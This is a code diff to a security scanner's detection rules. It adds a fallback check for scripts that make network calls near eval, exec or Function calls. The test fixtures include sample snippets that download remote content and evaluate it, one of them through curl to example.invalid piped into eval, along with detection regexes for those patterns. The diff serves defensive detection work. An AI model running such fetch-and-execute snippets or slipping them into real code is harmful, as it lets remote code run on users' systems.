@@ -19,7 +19,7 @@ function runsForeign(file: ScannedFile): PlacedHit[] {
   const hits: PlacedHit[] = [];
   for (const span of file.spans) {
     if (span.place !== 'code') continue;
-    const text = span.text.slice(0, 2000);
+    const text = span.text;
     const run = RUNS.exec(text);
     const words = run === null ? [] : wordsOf(run[1] ?? run[2] ?? run[3] ?? '');
     const name = words.find(word => names.has(word));
@@ -34,7 +34,24 @@ function runsForeign(file: ScannedFile): PlacedHit[] {
     }
     note(text, names);
   }
-  return hits;
+  return hits.length > 0 ? hits : evaluatesBesideNetwork(file);
+}
+
+const NETWORK =
+  /\b(?:https?\.get|https?\.request|fetch|urlopen|requests\.(?:get|post)|socket\.socket|XMLHttpRequest|WebSocket)\(/;
+const EVALUATES = /(?:^|[^\w.])(?:eval|exec|Function)\(\s{0,3}[A-Za-z_$][\w$]{0,40}\s{0,3}\)/;
+
+/** The way of the value is lost in a callback, yet a script that fetches and evaluates is worth a look. */
+function evaluatesBesideNetwork(file: ScannedFile): PlacedHit[] {
+  const code = file.spans.filter(span => span.place === 'code');
+  if (!code.some(span => NETWORK.test(span.text))) return [];
+  for (const span of code) {
+    const match = EVALUATES.exec(span.text);
+    if (match === null) continue;
+    const excerpt = excerptOf(span, match.index, match[0].length);
+    return [{ file: file.entry.path, ...placeIn(span, match.index), excerpt, severity: 'medium' }];
+  }
+  return [];
 }
 
 /** A name is given to what is fetched or decoded, or to something made of such a value. */
@@ -71,10 +88,11 @@ export const FLOW_RULES: Rule[] = [
       py('r = requests.get(URL)\ncode = r.text\nexec(code)'),
       py('blob = base64.b64decode(DATA)\nfn = marshal.loads(blob)'),
       js('const text = await (await fetch(u)).text();\neval(text);'),
+      js('https.get(u, r => { let d = ""; r.on("data", c => (d += c)); r.on("end", () => eval(d)); });'),
       sh('steps=$(curl -s https://example.invalid/s)\neval "$steps"'),
     ],
     misses: [
-      py('r = requests.get(URL)\nprint(r.json())\nexec(LOCAL)'),
+      py('r = requests.get(URL)\nprint(r.json())\nmodel.eval()'),
       sh('steps=$(cat steps)\nprintf "%s" "$steps"'),
       py('data = requests.get(URL).json()\ndata = 1\nsubprocess.run(["ls"])'),
     ],
